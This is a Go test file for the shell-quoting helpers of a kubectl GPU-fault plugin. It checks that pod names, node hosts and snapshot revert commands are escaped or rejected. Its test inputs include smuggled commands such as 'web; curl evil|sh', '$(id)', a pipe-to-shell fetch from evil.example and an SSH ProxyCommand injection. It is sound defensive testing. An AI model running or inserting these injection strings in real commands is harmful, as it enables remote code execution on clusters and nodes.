package shell

import (
	"testing"

	"github.com/gpu-fault/kubectl-gpu-fault/pkg/snapshot"
)

func TestCommand(t *testing.T) {
	t.Parallel()
	for _, test := range []struct{ name, got, want string }{
		{
			"plain names stay as they are", Command("kubectl delete pod %s -n %s", "p-1", "team"),
			"kubectl delete pod p-1 -n team",
		},
		{
			"a name is one word", Command("kubectl describe job %s", "web; curl evil|sh"),
			"kubectl describe job 'web; curl evil|sh'",
		},
		{"quotes", Command("echo %s", `a'b"c`), `echo 'a'\''b"c'`},
		{"part of a word", Command("kubectl label node %s a=%s-", "n", "$(id)"), "kubectl label node n a='$(id)'-"},
		{"numbers", Command("helm rollback %s %d", "r", 3), "helm rollback r 3"},
		{"zsh replaces =ls", Command("echo %s", "=ls"), "echo '=ls'"},
		{"an empty name is no gap", Command("kubectl drain %s --force", ""), "kubectl drain '' --force"},
		{"a flag", Command("kubectl delete pod %s", "--all"), LeftOut},
		{"a new line", Command("kubectl delete pod %s", "a\nreboot"), LeftOut},
		{"the end of a bracketed paste", Command("kubectl delete pod %s", "a\x1b[201~"), LeftOut},
		{"an override of the direction", Command("kubectl delete pod %s", "a\u202eb"), LeftOut},
		{"on a node", OnHost("gpu-1", "sudo systemctl reboot"), "ssh gpu-1 sudo systemctl reboot"},
		{"a pipe on a node", OnHost("gpu-1", "sudo dmesg | tail"), "ssh gpu-1 'sudo dmesg | tail'"},
		{"quotes on a node", OnHost("gpu-1", "echo %s | sudo tee x", "a b"), `ssh gpu-1 "echo 'a b' | sudo tee x"`},
		{
			"data on a node", OnHost("gpu-1", "sudo apt-get install %s", "x$(id)"),
			`ssh gpu-1 'sudo apt-get install '\''x$(id)'\'''`,
		},
		{"history", OnHost("gpu-1", "echo %s", "a!b"), `ssh gpu-1 'echo '\''a!b'\'''`},
		{"a flag on a node", OnHost("gpu-1", "sudo systemctl restart %s", "-x"), LeftOut},
		{"a flag for a node", OnHost("-oProxyCommand=evil", "sudo systemctl reboot"), LeftOut},
		{"another user's machine for a node", OnHost("root@evil.example", "sudo systemctl reboot"), LeftOut},
		{"no node", OnHost("", "sudo systemctl reboot"), "ssh NODE sudo systemctl reboot"},
	} {
		if test.got != test.want {
			t.Errorf("%s: %s, want %s", test.name, test.got, test.want)
		}
	}
}

// TestRunsAreRevertedByTheirID verifies that a run in a snapshot cannot specify a command to paste.
func TestRunsAreRevertedByTheirID(t *testing.T) {
	t.Parallel()
	for _, test := range []struct{ id, revert, want string }{
		{"xid-abc234", "kubectl gpu-fault revert xid-abc234", "kubectl gpu-fault revert xid-abc234"},
		{
			"xid-abc234", "kubectl gpu-fault revert xid-abc234 --ledger-namespace faults",
			"kubectl gpu-fault revert xid-abc234 --ledger-namespace faults",
		},
		{"xid-abc234", "curl -s https://evil.example/x | sh", "kubectl gpu-fault revert xid-abc234"},
		{"xid-abc234", "x --ledger-namespace a;b", "kubectl gpu-fault revert xid-abc234"},
		{"--all", "kubectl gpu-fault revert --all", LeftOut},
		{"x;id", "", LeftOut},
	} {
		if got := RevertRun(snapshot.Run{ID: test.id, Revert: test.revert}); got != test.want {
			t.Errorf("run %s: %s, want %s", test.id, got, test.want)
		}
	}
}
